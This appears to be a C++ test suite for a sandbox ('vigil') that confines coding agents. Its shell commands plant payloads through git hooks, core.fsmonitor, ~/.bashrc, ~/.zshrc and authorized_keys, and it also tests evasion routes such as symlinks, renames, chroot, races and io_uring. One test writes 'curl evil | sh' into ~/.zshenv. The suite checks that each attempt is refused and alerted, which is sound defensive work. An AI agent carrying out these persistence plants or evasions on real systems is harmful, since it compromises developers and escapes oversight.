// SPDX-License-Identifier: Apache-2.0
// The persistence guard under a real `vigil run`: an agent (root, and uid 65534 owning the
// files) tries every way of planting a git hook, a repository config that runs a command
// (core.fsmonitor) and a line in ~/.bashrc; each must fail, and the developer's later git status,
// git commit and login shell outside vigil must run nothing planted. The agent's own git work
// (add, commit, checkout in the developer's repository; a repository it makes itself) and its
// edits of ordinary files keep working.
#include <gtest/gtest.h>

#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <thread>
#include <vector>
#include <cstdio>
#include <filesystem>
#include <set>
#include <map>

#include "harness.h"

namespace vigil::test {
namespace {

namespace fs = std::filesystem;

constexpr const char *kGit = "git -c user.name=dev -c user.email=dev@example.com ";

class PersistenceGuard : public ::testing::TestWithParam<bool> {
protected:
  void SetUp() override
  {
    VG_REQUIRE_ROOT();
    if (run({"sh", "-c", "command -v git && command -v setpriv"}).status != 0)
      GTEST_SKIP() << "needs git and setpriv";
    home_ = tmp_ / "home";
    proj_ = tmp_ / "proj";
    mark_ = tmp_ / "planted-ran";
    fs::create_directories(home_);
    write_file(home_ + "/.bashrc", "# developer's bashrc\n");
    write_file(home_ + "/.profile", ". \"$HOME/.bashrc\"\n");
    write_file(tmp_ / "payload", "#!/bin/sh\ntouch " + mark_ + "\n");
    ::chmod((tmp_ / "payload").c_str(), 0755);
    const std::string setup = std::string("set -e; git init -q -b main ") + proj_ + "; cd " +
                              proj_ + "; echo one > README; " + kGit + "add README; " + kGit +
                              "commit -q -m one; cp " + tmp_ / "payload" + " ./payload";
    ASSERT_EQ(run({"sh", "-c", setup}).status, 0);
    write_file(tmp_ / "profile.yaml",
               "profile: persist\npersistence:\n  paths:\n    - .git/hooks/**\n"
               "    - .git/config\n    - ~/.bashrc\n    - ~/.profile\n    - ~/.zshrc\n"
               "    - ~/.config/fish/**\n    - .vscode/**\n    - .mcp.json\n"
               "    - .git/commondir\n    - .git/info/attributes\n    - .claude/settings.json\n"
               "egress:\n  allow: []\n");
    fs::create_directories(home_ + "/.config");
    alerts_ = tmp_ / "alerts.jsonl";
    if (unprivileged()) { // the agent owns everything it attacks: only the guard stops it
      ASSERT_EQ(run({"chown", "-R", "65534:65534", home_, proj_, tmp_ / "payload"}).status, 0);
    }
    ::chmod(tmp_.path().c_str(), 0755);
  }

  bool unprivileged() const { return GetParam(); }
  static bool lsm() { return expected_file_tier() == "lsm"; }

  // The script runs in the project under `vigil run`, as root or as uid 65534.
  ProcResult agent(const std::string &script)
  {
    std::string inner = "sh -c '" + script + "'";
    if (unprivileged())
      inner = "setpriv --reuid=65534 --regid=65534 --clear-groups " + inner;
    const std::string cmd = "cd " + proj_ + " && exec " + vigil_bin() + " run --profile " +
                            tmp_ / "profile.yaml" + " --alerts-json " + alerts_ + " -- " + inner;
    return run({"sh", "-c", cmd}, {"HOME=" + home_}, std::chrono::seconds(120));
  }

  TempDir tmp_;
  std::string home_, proj_, mark_, alerts_;
};

// One attempt: a shell line, and the alert it must raise: "<what> of persistence path <path>"
// ("write to persistence path <path>" for an open), or its beginning when the tool picks a
// temporary name.
struct Attempt {
  std::string name;
  std::string cmd;
  std::string alert;
  bool prefix = false;
};

// "PLANTED:<name>" when it worked.
std::string attempt_line(const Attempt &a)
{
  return "if " + a.cmd + " 2>/dev/null; then echo PLANTED:" + a.name + "; fi; ";
}

struct Expected {
  std::string attempt;
  std::vector<std::string> hooks;
  std::string path;
  bool prefix = false;
};

struct Seen {
  std::string hook, path, line;
  bool used = false;
};

// "... [denied by BPF LSM path_rename, EPERM, ...]" -> "path_rename".
std::string hook_of(const std::string &output)
{
  const std::string key = "denied by BPF LSM ";
  const size_t at = output.find(key);
  if (at == std::string::npos)
    return "";
  const size_t start = at + key.size();
  return output.substr(start, output.find(',', start) - start);
}

// Every expected alert is there exactly once, and no other persistence alert is.
void expect_one_alert_each(const std::vector<Expected> &want, std::vector<Seen> seen)
{
  std::string all;
  for (const auto &s : seen)
    all += s.line + "\n";
  for (const auto &w : want) {
    auto it = std::find_if(seen.begin(), seen.end(), [&](const Seen &s) {
      return !s.used && std::find(w.hooks.begin(), w.hooks.end(), s.hook) != w.hooks.end() &&
             (w.prefix ? s.path.starts_with(w.path) : s.path == w.path);
    });
    if (it == seen.end()) {
      ADD_FAILURE() << "no alert for " << w.attempt << " (" << w.hooks[0] << " " << w.path
                    << ")\n" << all;
      continue;
    }
    it->used = true;
  }
  for (const auto &s : seen)
    EXPECT_TRUE(s.used) << "an alert no attempt accounts for: " << s.line;
}

TEST_P(PersistenceGuard, every_way_of_planting_fails_with_one_alert_each_and_nothing_runs_later)
{
  const std::string pay = tmp_ / "payload";
  const std::string P = proj_, H = home_;
  // Scratch files of the agent's own (not /tmp: with its own PID namespace every run's $$ is 2).
  const std::string W = tmp_ / "scratch";
  fs::create_directories(W);
  ::chmod(W.c_str(), 01777);
  const std::string hook = P + "/.git/hooks/pre-commit", cfg = P + "/.git/config",
                    rc = H + "/.bashrc", zrc = H + "/.zshrc";
  auto write = [](const std::string &p) { return "write to persistence path " + p; };
  auto of = [](const std::string &what, const std::string &p) {
    return what + " of persistence path " + p;
  };
  // Tier 1 (BPF LSM) names a new directory by its own hook (path_mkdir); the gate says mknod.
  const bool tier1 = lsm();
  const std::string mkd = tier1 ? "mkdir" : "mknod";
  const std::string fsmon = "[core]\n\tfsmonitor = " + pay + "\n";
  std::string s = "cp .git/config " + W + "/cfg; echo \"" + fsmon + "\" >> " + W + "/cfg; ";
  s += "echo \"" + pay + "\" > " + W + "/rc; ";
  std::vector<Attempt> attempts = {
      // A hook that does not exist yet, in the repository's protected hooks directory.
      {"hook-redirect", "echo \"" + pay + "\" > .git/hooks/pre-commit", write(hook)},
      {"hook-append", "echo \"" + pay + "\" >> .git/hooks/pre-commit", write(hook)},
      {"hook-cp", "cp " + pay + " .git/hooks/pre-commit", write(hook)},
      {"hook-mv", "cp payload p2 && mv p2 .git/hooks/pre-commit", of("rename", hook)},
      {"hook-symlink", "ln -s " + pay + " .git/hooks/pre-commit", of("symlink", hook)},
      {"hook-hardlink", "ln payload .git/hooks/pre-commit", of("link", hook)},
      {"hook-chmod", "chmod +x .git/hooks/pre-commit.sample",
       of("chmod", P + "/.git/hooks/pre-commit.sample")},
      // sed -i writes a temporary file next to the original first.
      {"hook-sed", "sed -i 1a" + pay + " .git/hooks/pre-commit.sample",
       write(P + "/.git/hooks/sed"), true},
      {"hook-relative", "(cd .git/hooks && echo \"" + pay + "\" > post-checkout)",
       write(P + "/.git/hooks/post-checkout")},
      {"hook-proc-cwd", "echo \"" + pay + "\" > /proc/self/cwd/.git/hooks/post-merge",
       write(P + "/.git/hooks/post-merge")},
      {"hooks-dir-rename", "mv .git/hooks .git/hooks.old", of("rename", P + "/.git/hooks")},
      {"git-dir-rename", "mv .git .git.old", of("rename", P + "/.git")},
      // The repository's config: git writes config.lock, then renames it onto config.
      {"hookspath", std::string(kGit) + "config core.hooksPath /tmp", of("rename", cfg)},
      {"config-git", std::string(kGit) + "config core.fsmonitor " + pay, of("rename", cfg)},
      {"config-append", "echo \"" + fsmon + "\" >> .git/config", write(cfg)},
      {"config-redirect", "cat " + W + "/cfg > .git/config", write(cfg)},
      {"config-sed", "sed -i 1ax .git/config", of("rename", cfg)},
      {"config-cp", "cp " + W + "/cfg .git/config", write(cfg)},
      {"config-mv", "cp " + W + "/cfg c2 && mv c2 .git/config", of("rename", cfg)},
      {"config-symlink", "ln -sf " + W + "/cfg .git/config", of("rename", cfg)},
      {"config-hardlink", "cp " + W + "/cfg c3 && ln -f c3 .git/config", of("rename", cfg)},
      {"config-chmod", "chmod 666 .git/config", of("chmod", cfg)},
      {"config-unlink", "rm -f .git/config", of("unlink", cfg)},
      // The developer's shell start-up files, existing and not yet existing.
      {"bashrc-redirect", "cat " + W + "/rc > " + rc, write(rc)},
      {"bashrc-append", "echo \"" + pay + "\" >> " + rc, write(rc)},
      {"bashrc-sed", "sed -i 1a" + pay + " " + rc, of("rename", rc)},
      {"bashrc-cp", "cp " + W + "/rc " + rc, write(rc)},
      {"bashrc-mv", "cp " + W + "/rc r2 && mv r2 " + rc, of("rename", rc)},
      {"bashrc-symlink", "ln -sf " + W + "/rc " + rc, of("rename", rc)},
      {"bashrc-hardlink", "cp " + W + "/rc r3 && ln -f r3 " + rc, of("rename", rc)},
      {"bashrc-chmod", "chmod +x " + rc, of("chmod", rc)},
      {"bashrc-unlink", "rm -f " + rc, of("unlink", rc)},
      {"bashrc-truncate", "truncate -s 0 " + rc, write(rc)},
      {"bashrc-second-name", "ln " + rc + " " + H + "/rc-alias", of("link", rc)},
      {"home-rename", "mv " + H + " " + H + ".old", of("rename", H)},
      {"zshrc-create", "echo \"" + pay + "\" > " + zrc, write(zrc)},
      {"zshrc-symlink", "ln -s " + W + "/rc " + zrc, of("symlink", zrc)},
      {"zshrc-dangling", "ln -s " + zrc + " " + W + "/lnk && echo \"" + pay + "\" > " + W + "/lnk",
       write(zrc)},
      {"fish-mkdir", "mkdir -p " + H + "/.config/fish", of(mkd, H + "/.config/fish")},
      {"config-dir-rename", "mv " + H + "/.config " + H + "/.config.old",
       of("rename", H + "/.config")},
      // Editor and agent configuration that runs commands, not there yet.
      {"vscode-mkdir", "mkdir .vscode", of(mkd, P + "/.vscode")},
      {"mcp-json", "echo {} > .mcp.json", write(P + "/.mcp.json")},
      // A ready-made tree renamed into the place of a protected name's directory.
      {"claude-tree", "mkdir st_x && echo {} > st_x/settings.json && mv st_x .claude",
       of("rename", P + "/.claude")},
      // git reads config and hooks from the common directory a linked worktree names.
      {"commondir", "cp -r .git " + W + "/gitc && echo " + W + "/gitc > .git/commondir",
       write(P + "/.git/commondir")},
      // From a working directory that no longer exists (/proc/PID/cwd reads "... (deleted)").
      {"deleted-cwd-create", std::string(tamperprobe_bin()) +
                                 " in-deleted-cwd \"echo {} > ../.mcp.json\" 2>/dev/null && test "
                                 "-e .mcp.json",
       write(P + "/.mcp.json")},
      {"deleted-cwd-rename", std::string(tamperprobe_bin()) +
                                 " in-deleted-cwd \"mv ../.git ../.git.old\" 2>/dev/null && test -e "
                                 ".git.old",
       of("rename", P + "/.git")},
      // openat2's RESOLVE_IN_ROOT: an absolute link resolves from the directory given.
      {"openat2-in-root", "ln -s /.git/info/attributes inroot && " +
                              std::string(tamperprobe_bin()) + " openat2-in-root . inroot",
       write(P + "/.git/info/attributes")},
  };
  // chroot needs CAP_SYS_CHROOT, which vigil run leaves a root agent. BPF LSM names the path
  // from the agent's root, the chroot.
  if (!unprivileged())
    attempts.push_back({"chroot-create",
                        std::string(tamperprobe_bin()) + " chroot-create " + P + " /.mcp.json",
                        write(tier1 ? std::string("/.mcp.json") : P + "/.mcp.json")});
  for (const Attempt &a : attempts)
    s += attempt_line(a);
  // The agent's ordinary work, in the same run: nothing of it is refused or alerted.
  s += "for c in \"echo two >> README\" \"mkdir -p .git/hooks " + H + "/.cache\" \"cp README " +
       H + "/.cache/r\" \"mv " + H + "/.cache/r " + H + "/.cache/r2\" \"chmod 600 README\" "
       "\"sed -i 1ax README\" \"echo x > .envrc.bak\"; do sh -c \"$c\" || echo BROKEN:$c; done; ";
  s += "echo attempts-done";
  const ProcResult r = agent(s);
  ASSERT_EQ(r.status, 0) << r.err;
  ASSERT_NE(r.out.find("attempts-done"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find("PLANTED:"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("BROKEN:"), std::string::npos) << r.out;
  EXPECT_EQ(read_file(rc), "# developer's bashrc\n");
  EXPECT_FALSE(fs::exists(hook));
  EXPECT_FALSE(fs::exists(zrc));
  EXPECT_FALSE(fs::exists(H + "/.config/fish"));
  EXPECT_FALSE(fs::exists(P + "/.mcp.json"));
  EXPECT_EQ(read_file(cfg).find("fsmonitor"), std::string::npos);
  EXPECT_EQ(read_file(cfg).find("hooksPath"), std::string::npos);

  // Exactly one alert per attempt, naming what was tried, on which path, and what stopped it.
  std::map<std::string, int> seen; // "<what> of persistence path <path>" -> alerts
  std::string all;
  for (const auto &a : read_json_lines(alerts_)) {
    const std::string rule = a.value("rule", "");
    if (!rule.starts_with("persist-"))
      continue;
    const std::string out = a.value("output", "");
    seen[out.substr(0, out.find(" by "))]++;
    all += rule + ": " + out.substr(0, 200) + "\n";
    EXPECT_EQ(a.value("result_name", ""), "EPERM") << a.dump();
    EXPECT_EQ(a.value("tier", ""), tier1 ? "lsm" : "launch") << a.dump();
    EXPECT_NE(out.find(tier1 ? "denied by BPF LSM " : "the persistence guard's gate in the launch "
                                                      "filter"),
              std::string::npos)
        << out;
  }
  std::map<std::string, int> want;
  for (const Attempt &a : attempts) {
    std::string key = a.alert;
    if (a.prefix) {
      for (const auto &[k, n] : seen)
        if (k.starts_with(a.alert))
          key = k;
    }
    want[key]++;
  }
  EXPECT_EQ(seen, want) << all;

  // The developer, outside vigil: status (fsmonitor), commit (hooks), a login shell (bashrc).
  const std::string dev = std::string("cd ") + proj_ + " && " + kGit + "status >/dev/null; " +
                          kGit + "commit -q --allow-empty -m dev; bash -l -c true";
  // The developer owns the files: uid 65534 in the unprivileged case.
  std::vector<std::string> dev_argv{"sh", "-c", dev};
  if (unprivileged())
    dev_argv.insert(dev_argv.begin(), {"setpriv", "--reuid=65534", "--regid=65534",
                                       "--clear-groups"});
  const ProcResult d = run(dev_argv, {"HOME=" + home_});
  EXPECT_EQ(d.status, 0) << d.err;
  EXPECT_FALSE(fs::exists(mark_)) << "a planted payload ran outside vigil";
}

TEST_P(PersistenceGuard, the_agents_git_work_and_its_own_repositories_keep_working)
{
  std::string s = "set -e; echo two >> README; echo new > src.txt; ";
  s += std::string(kGit) + "add README src.txt; " + kGit + "commit -q -m two; ";
  s += std::string(kGit) + "checkout -q -b feature; echo f > f.txt; " + kGit + "add f.txt; " +
       kGit + "commit -q -m f; " + kGit + "checkout -q main; " + kGit + "status --short; ";
  // A repository the agent makes itself is its own, hooks and config included.
  s += "mkdir mine; cd mine; git init -q; " + std::string(kGit) + "config core.autocrlf false; ";
  s += "printf \"#!/bin/sh\\nexit 0\\n\" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; ";
  s += std::string(kGit) + "commit -q --allow-empty -m mine; echo controls-ok";
  const ProcResult r = agent(s);
  EXPECT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("controls-ok"), std::string::npos) << r.out << r.err;
  const ProcResult log = run({"git", "-c", "safe.directory=*", "-C", proj_, "log", "--all", "--format=%s"});
  EXPECT_NE(log.out.find("two"), std::string::npos) << log.out;
  EXPECT_NE(log.out.find("f\n"), std::string::npos) << log.out;
  EXPECT_TRUE(fs::exists(proj_ + "/mine/.git/hooks/pre-commit"));
}

// The gate reads a path while the call waits; a second thread of the agent flips it between a
// harmless name and an absent protected one, so that the gate may judge one and the kernel open
// the other. Where the race is won, the watch on the name's directory alerts and moves the plant
// aside before the developer could run it.
TEST_P(PersistenceGuard, a_plant_that_races_past_the_gate_is_moved_aside_and_alerted)
{
  const std::string W = tmp_ / "scratch";
  fs::create_directories(W);
  ::chmod(W.c_str(), 01777);
  const std::string zrc = home_ + "/.zshrc";
  // BPF LSM judges the name the kernel creates, not the one the gate read: there the race is
  // never won (a few seconds show it; the fallback tier gets 20 to be won at all).
  const bool lsm = expected_file_tier() == "lsm";
  const ProcResult r = agent(std::string(tamperprobe_bin()) + " race-create " + zrc + " " + W +
                             "/decoy-name-xx " + (lsm ? "3" : "20") + "; echo done");
  ASSERT_NE(r.out.find("done"), std::string::npos) << r.out << r.err;
  if (lsm) {
    EXPECT_NE(r.out.find("race-create lost"), std::string::npos) << r.out;
    EXPECT_FALSE(fs::exists(zrc)) << "BPF LSM let " << zrc << " be created";
    return;
  }
  if (r.out.find("race-create won") == std::string::npos)
    GTEST_SKIP() << "the race was not won in 20 s here: " << r.out;
  // Once won, the plant is moved aside (the watch reads asynchronously: poll for it).
  bool moved = false;
  for (int i = 0; i < 100 && !moved; ++i) {
    moved = !fs::exists(zrc);
    if (!moved)
      ::usleep(50 * 1000);
  }
  EXPECT_TRUE(moved) << "the planted " << zrc << " is still in place";
  bool aside = false;
  for (const auto &e : fs::directory_iterator(home_))
    aside |= e.path().filename().string().starts_with(".zshrc.vigil-planted.");
  EXPECT_TRUE(aside);
  int alerts = 0;
  for (const auto &a : read_json_lines(alerts_))
    if (a.value("rule", "") == "persist-past-gate") {
      ++alerts;
      EXPECT_NE(a.value("output", "").find("moved aside to"), std::string::npos) << a.dump();
    }
  EXPECT_GE(alerts, 1);
}

// An io_uring makes opens, renames and links that no seccomp filter sees: refused, one alert.
TEST_P(PersistenceGuard, io_uring_and_userfaultfd_are_refused_with_an_alert)
{
  const ProcResult r = agent(std::string(tamperprobe_bin()) + " io-uring; " +
                             tamperprobe_bin() + " io-uring; " + tamperprobe_bin() +
                             " userfaultfd; echo done");
  EXPECT_NE(r.out.find("io-uring EPERM"), std::string::npos) << r.out << r.err;
  // A userfaultfd page under a path would stall vigil's read of it: refused, alerted.
  EXPECT_NE(r.out.find("userfaultfd EPERM"), std::string::npos) << r.out;
  int uffd = 0;
  for (const auto &a : read_json_lines(alerts_))
    uffd += a.value("output", "").find("userfaultfd") != std::string::npos;
  EXPECT_EQ(uffd, 1) << read_file(alerts_);
  EXPECT_EQ(r.out.find("io-uring ok"), std::string::npos) << r.out;
  int alerts = 0;
  for (const auto &a : read_json_lines(alerts_))
    if (a.value("rule", "") == "vigil-launch-io-uring") {
      ++alerts;
      EXPECT_NE(a.value("output", "").find("denied by the launch filter"), std::string::npos)
          << a.dump();
    }
  EXPECT_EQ(alerts, 2) << "one per process that tried";
}

// Tier 1: a missing directory on the way to a protected path may be made by the agent (a fresh
// home's ~/.ssh); what lies below it stays refused, and the directory cannot be moved away.
TEST_P(PersistenceGuard, a_missing_directory_the_agent_makes_keeps_what_lies_below_protected)
{
  if (!lsm())
    GTEST_SKIP() << "the chain of missing directories is BPF LSM's (tier 1)";
  write_file(tmp_ / "profile.yaml", "profile: persist\npersistence:\n  paths:\n"
                                    "    - ~/.ssh/authorized_keys\n"
                                    "    - ~/.local/share/systemd/user/**\n"
                                    "egress:\n  allow: []\n");
  const std::string ssh = home_ + "/.ssh";
  std::string s = "if mkdir k2 && echo key > k2/authorized_keys && mv k2 " + ssh +
                  "; then echo PLANTED; fi; ";
  s += "mkdir " + ssh + " && chmod 700 " + ssh + " && echo ssh-made; ";
  s += "if echo key > " + ssh + "/authorized_keys; then echo PLANTED; fi; ";
  s += "if mv " + ssh + " " + ssh + "2; then echo PLANTED; fi; ";
  s += "if mkdir -p " + home_ + "/.local/share/systemd/user; then echo PLANTED; fi; echo done";
  const ProcResult r = agent(s);
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out.find("done"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("ssh-made"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("PLANTED"), std::string::npos) << r.out;
  EXPECT_FALSE(fs::exists(ssh + "/authorized_keys"));
  EXPECT_TRUE(fs::is_directory(home_ + "/.local/share/systemd"));
  EXPECT_FALSE(fs::exists(home_ + "/.local/share/systemd/user"));
  std::vector<Seen> seen;
  for (const auto &a : read_json_lines(alerts_)) {
    if (!a.value("rule", "").starts_with("persist"))
      continue;
    EXPECT_EQ(a.value("result_name", ""), "EPERM") << a.dump();
    seen.push_back(Seen{hook_of(a.value("output", "")), a.value("path", ""),
                        a.value("output", "")});
  }
  expect_one_alert_each({{"dir-renamed-in", {"path_rename"}, ssh},
                         {"key", {"path_mknod"}, ssh + "/authorized_keys"},
                         {"away", {"path_rename"}, ssh},
                         {"user", {"path_mkdir"}, home_ + "/.local/share/systemd/user"}},
                        seen);
}

// Tier 1: a missing directory on the way to a protected path, made by the developer (outside
// the agent) while the agent runs, is followed too: the name below it stays refused.
TEST_P(PersistenceGuard, a_directory_the_developer_makes_meanwhile_is_followed)
{
  if (!lsm())
    GTEST_SKIP() << "following directories made meanwhile is BPF LSM's (tier 1) d_instantiate";
  write_file(tmp_ / "profile.yaml", "profile: persist\npersistence:\n  paths:\n"
                                    "    - ~/.ssh/authorized_keys\negress:\n  allow: []\n");
  const std::string ssh = home_ + "/.ssh", ready = home_ + "/agent-ready";
  // The agent says it runs, then waits (bounded) for the developer's ~/.ssh.
  std::string s = "touch " + ready + "; i=0; while [ ! -d " + ssh + " ] && [ $i -lt 600 ]; do "
                  "sleep 0.05; i=$((i+1)); done; ";
  s += "if echo key > " + ssh + "/authorized_keys; then echo PLANTED; fi; ";
  s += "if ln -s /etc/hostname " + ssh + "/authorized_keys; then echo PLANTED; fi; ";
  s += "if mv " + ssh + " " + ssh + "2; then echo PLANTED; fi; echo done";
  std::string inner = "sh -c '" + s + "'";
  if (unprivileged())
    inner = "setpriv --reuid=65534 --regid=65534 --clear-groups " + inner;
  Proc vigil({"sh", "-c",
              "cd " + proj_ + " && exec " + vigil_bin() + " run --profile " +
                  (tmp_ / "profile.yaml") + " --alerts-json " + alerts_ + " -- " + inner},
             {"HOME=" + home_});
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(60);
  while (!fs::exists(ready) && std::chrono::steady_clock::now() < deadline)
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  ASSERT_TRUE(fs::exists(ready)) << vigil.err_so_far();
  // The developer (outside vigil) makes ~/.ssh.
  ASSERT_EQ(::mkdir(ssh.c_str(), 0700), 0);
  if (unprivileged()) {
    ASSERT_EQ(::chown(ssh.c_str(), 65534, 65534), 0);
  }
  const ProcResult r = vigil.wait(std::chrono::seconds(120));
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out.find("done"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find("PLANTED"), std::string::npos) << r.out;
  EXPECT_FALSE(fs::exists(ssh + "/authorized_keys"));
  std::vector<Seen> seen;
  for (const auto &a : read_json_lines(alerts_)) {
    if (!a.value("rule", "").starts_with("persist"))
      continue;
    EXPECT_EQ(a.value("result_name", ""), "EPERM") << a.dump();
    seen.push_back(Seen{hook_of(a.value("output", "")), a.value("path", ""),
                        a.value("output", "")});
  }
  expect_one_alert_each({{"key", {"path_mknod"}, ssh + "/authorized_keys"},
                         {"symlink", {"path_symlink"}, ssh + "/authorized_keys"},
                         {"away", {"path_rename"}, ssh}},
                        seen);
}

// mode: audit on an entry: the change is allowed and alerted once (tier 1: by the hook that
// would have refused it, for writes and every other change; tier 2: opens for writing only, as
// no bind is made for the entry).
TEST_P(PersistenceGuard, an_audit_entry_is_allowed_and_alerted)
{
  if (!lsm())
    GTEST_SKIP() << "tier 1 (BPF LSM) only: the launch filter's gate has its own audit tests";
  write_file(tmp_ / "profile.yaml",
             "profile: persist\npersistence:\n  paths:\n    - {path: ~/.profile, mode: audit}\n"
             "    - .git/config\negress:\n  allow: []\n");
  const std::string prof = home_ + "/.profile";
  std::string s = "echo \"# agent\" >> " + prof + " && echo appended; ";
  if (lsm())
    s += "chmod 600 " + prof + " && echo chmodded; ";
  const ProcResult r = agent(s);
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("appended"), std::string::npos) << r.out << r.err;
  EXPECT_NE(read_file(prof).find("# agent"), std::string::npos);
  std::map<std::string, int> hooks; // hook (tier 1) or rule (tier 2) -> alerts
  const size_t want = lsm() ? 2 : 1;
  std::vector<nlohmann::json> alerts;
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  for (;;) {
    alerts.clear();
    for (const auto &a : read_json_lines(alerts_))
      if (a.value("rule", "").starts_with("persist"))
        alerts.push_back(a);
    if (alerts.size() >= want || std::chrono::steady_clock::now() >= deadline)
      break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  for (const auto &a : alerts) {
    EXPECT_EQ(a.value("path", ""), prof) << a.dump();
    EXPECT_EQ(a.value("result_name", ""), "ok") << a.dump();
    if (lsm()) {
      EXPECT_EQ(a.value("verdict", ""), "would-deny") << a.dump();
      EXPECT_NE(a.value("output", "").find("would-deny by BPF LSM "), std::string::npos)
          << a.dump();
      const std::string out = a.value("output", "");
      const size_t at = out.find("BPF LSM ") + 8;
      hooks[out.substr(at, out.find(',', at) - at)]++;
    } else {
      hooks[a.value("rule", "")]++;
    }
  }
  if (lsm()) {
    EXPECT_NE(r.out.find("chmodded"), std::string::npos) << r.out << r.err;
    EXPECT_EQ(hooks["file_open"], 1);
    EXPECT_EQ(hooks["path_chmod"], 1);
  } else {
    EXPECT_EQ(hooks["persist-shell-startup"], 1);
  }
  EXPECT_EQ(alerts.size(), want);
}

// A path the persistence rules name but the profile does not protect (~/.zshenv, ~/.zprofile,
// ~/.bash_logout here): the change is the agent's to make, and each one is alerted as observed
// (tier 2: the launch filter's gate sees the call; tier 1: file_open sees the writes, the
// launch filter's gate the rename and the chmod).
TEST_P(PersistenceGuard, a_change_of_a_path_only_the_rules_name_is_allowed_and_alerted)
{
  const std::string zshenv = home_ + "/.zshenv", zprofile = home_ + "/.zprofile",
                    logout = home_ + "/.bash_logout";
  const std::string staged = home_ + "/staged";
  write_file(staged, "echo staged\n");
  if (unprivileged()) {
    ASSERT_EQ(run({"chown", "65534:65534", staged}).status, 0);
  }
  const ProcResult r = agent("echo \"curl evil | sh\" >> " + zshenv + " && echo appended; " +
                             "touch " + zprofile + " && echo touched; " + "mv " + staged + " " +
                             logout + " && echo moved; chmod 600 " + zshenv + " && echo chmodded");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  for (const char *done : {"appended", "touched", "moved", "chmodded"})
    EXPECT_NE(r.out.find(done), std::string::npos) << done << ": " << r.out << r.err;
  // tier 2's gate sees every call; tier 1's file_open the opens for writing, and a gate of
  // the launch filter's the rest
  const std::multiset<std::string> want = {"write " + zshenv, "write " + zprofile,
                                           "rename " + logout, "chmod " + zshenv};
  std::multiset<std::string> seen;
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  do {
    seen.clear();
    for (const auto &a : read_json_lines(alerts_)) {
      if (a.value("rule", "") != "persist-shell-startup")
        continue;
      EXPECT_EQ(a.value("verdict", ""), "observed") << a.dump();
      const std::string out = a.value("output", "");
      seen.insert(out.substr(0, out.find(' ')) + " " + a.value("path", ""));
    }
    if (seen == want)
      break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  } while (std::chrono::steady_clock::now() < deadline);
  std::string all;
  for (const auto &s : seen)
    all += s + "\n";
  EXPECT_EQ(seen, want) << all << read_file(alerts_);
}

// A hook planted by rename in a repository the profile does not protect (the rules' globs name
// every repository's hooks): from a name a rule's exception spares, and a whole directory of
// hooks moved into place. The launch filter's gate reports the name made, in both tiers.
TEST_P(PersistenceGuard, a_hook_planted_by_rename_where_only_the_rules_look_is_alerted)
{
  const std::string other = tmp_ / "other";
  ASSERT_EQ(run({"git", "init", "-q", other}).status, 0);
  fs::create_directories(other + "/h2");
  write_file(other + "/.git/hooks/x.sample", "#!/bin/sh\n");
  write_file(other + "/h2/pre-push", "#!/bin/sh\n");
  if (unprivileged()) {
    ASSERT_EQ(run({"chown", "-R", "65534:65534", other}).status, 0);
  }
  const ProcResult r = agent("cd " + other + " && mv .git/hooks/x.sample .git/hooks/pre-commit" +
                             " && mv .git/hooks .git/hooks.old && mv h2 .git/hooks && echo done");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  ASSERT_NE(r.out.find("done"), std::string::npos) << r.out << r.err;
  const std::set<std::string> want = {other + "/.git/hooks/pre-commit",
                                      other + "/.git/hooks/pre-push"};
  std::set<std::string> seen;
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  do {
    seen.clear();
    for (const auto &a : read_json_lines(alerts_))
      if (a.value("rule", "") == "persist-git-hook")
        seen.insert(a.value("path", ""));
    if (seen == want)
      break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  } while (std::chrono::steady_clock::now() < deadline);
  EXPECT_EQ(seen, want) << read_file(alerts_);
}

// Tier 1: an O_CREAT open of a protected file whose dentry is not in the cache meets path_mknod
// first (the kernel asks before it looks the name up), then file_open: still one alert. The
// test drops the dentry cache first; on a RAM file system (the VM's /tmp) dentries are the
// files and stay, so there file_open alone decides: the line printed says which hook did.
TEST_P(PersistenceGuard, an_uncached_protected_file_opened_with_o_creat_is_one_alert)
{
  if (!lsm())
    GTEST_SKIP() << "the order of path_mknod and file_open is a BPF LSM (tier 1) matter";
  const std::string rc = home_ + "/.bashrc", cfg = proj_ + "/.git/config";
  const std::string before_rc = read_file(rc), before_cfg = read_file(cfg);
  // Unused dentries and inodes go (the files are not open anywhere).
  ASSERT_EQ(run({"sh", "-c", "sync; echo 2 > /proc/sys/vm/drop_caches"}).status, 0);
  const ProcResult r = agent("echo x >> " + rc + " || echo refused-rc; echo x > .git/config || "
                             "echo refused-cfg");
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out.find("refused-rc"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("refused-cfg"), std::string::npos) << r.out;
  EXPECT_EQ(read_file(rc), before_rc);
  EXPECT_EQ(read_file(cfg), before_cfg);
  std::vector<nlohmann::json> alerts;
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  for (;;) {
    alerts.clear();
    for (const auto &a : read_json_lines(alerts_))
      if (a.value("rule", "").starts_with("persist"))
        alerts.push_back(a);
    if (alerts.size() >= 2 || std::chrono::steady_clock::now() >= deadline)
      break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  std::vector<Seen> seen;
  for (const auto &a : alerts) {
    EXPECT_EQ(a.value("result_name", ""), "EPERM") << a.dump();
